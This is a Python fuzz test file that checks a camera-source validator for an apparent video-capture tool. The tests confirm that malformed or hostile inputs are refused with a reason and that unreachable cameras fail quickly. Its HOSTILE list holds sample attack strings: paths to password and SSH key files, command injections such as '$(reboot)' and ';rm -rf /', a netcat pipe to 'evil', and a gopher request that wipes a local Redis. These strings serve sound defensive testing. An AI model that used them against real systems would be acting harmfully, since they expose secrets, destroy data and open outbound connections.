"""Camera sources in bulk (hypothesis): whatever text is offered, validation accepts a usable source or
refuses it with a SourceError that says why, never another exception; hostile sources are all refused;
unreachable hosts end in a clear error within the time allowed."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from affectwatch.capture import grab_frame
from affectwatch.exceptions import SourceError
from affectwatch.sources import MAX_LENGTH, URL_SCHEMES, SourceKind, validate_source
from tests.fuzzing import examples

SHELL = "`$;|<>\\\"'&*?{}!"
HOSTILE = [
    "file:///etc/passwd", "FILE:///etc/shadow", "/etc/passwd", "/etc/shadow", "../../../../etc/passwd", "/dev/sda",
    "/dev/video99", "/proc/self/environ", "~root/.ssh/id_rsa", "javascript:alert(1)", "data:video/mp4;base64,AAAA",
    "gopher://127.0.0.1:6379/_FLUSHALL", "ftp://example.org/a.mp4", "ssh://cam/", "rtsp://cam/$(reboot)",
    "rtsp://cam/`id`", "http://cam/a;rm -rf /", "0; reboot", "0 && reboot", "| nc evil 1", "/tmp/a.mp4\nreboot",
    "rtsp://", "http:///nohost", "rtsp://cam:99999/", "http://cam/a b.mjpg", "rtsp://" + "a" * MAX_LENGTH,
    "/" + "a/" * 1500, "\x00", "", "   ", "rtsp://cam/\x7f", "rtsp://user:pa'ss@cam/", "http://[::1/",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_sources_are_refused_with_a_reason(source: str) -> None:
    with pytest.raises(SourceError) as refused:
        validate_source(source)
    assert str(refused.value)


def check(text: str) -> None:
    """Accepted only when usable; a refusal always says why."""
    try:
        source = validate_source(text, check_readable=False)
    except SourceError as exc:
        assert str(exc)
        return
    assert not set(source.text) & set(SHELL[:9]) and len(source.text) <= MAX_LENGTH
    if source.kind is SourceKind.URL:
        assert source.text.split(":", 1)[0].lower() in URL_SCHEMES
    elif source.kind in (SourceKind.FILE, SourceKind.FOLDER):
        assert Path(source.text).exists()


@settings(max_examples=examples(300), deadline=None)
@given(st.text(max_size=2500))
def test_any_text_is_a_usable_source_or_refused(text: str) -> None:
    check(text)


pieces = st.sampled_from(["rtsp://", "http://", "https://", "file://", "/dev/video", "/tmp/", "cam", "user:pw@",
                          ":554", "/stream", "..", "%20", " ", "\n", *SHELL, "0", "99", ".mp4", "/etc/passwd"])


@settings(max_examples=examples(300), deadline=None)
@given(st.lists(pieces, max_size=12).map("".join))
def test_sources_built_from_risky_pieces_are_usable_or_refused(text: str) -> None:
    check(text)


@pytest.mark.parametrize("source", ["rtsp://127.0.0.1:9/stream", "http://127.0.0.1:9/video.mjpg",
                                    "rtsp://10.255.255.1:554/stream"])
def test_an_unreachable_camera_is_a_clear_error_in_bounded_time(source: str) -> None:
    started = time.monotonic()
    with pytest.raises(SourceError, match="no frame from"):
        grab_frame(source, timeout=3.0)
    assert time.monotonic() - started < 5.0
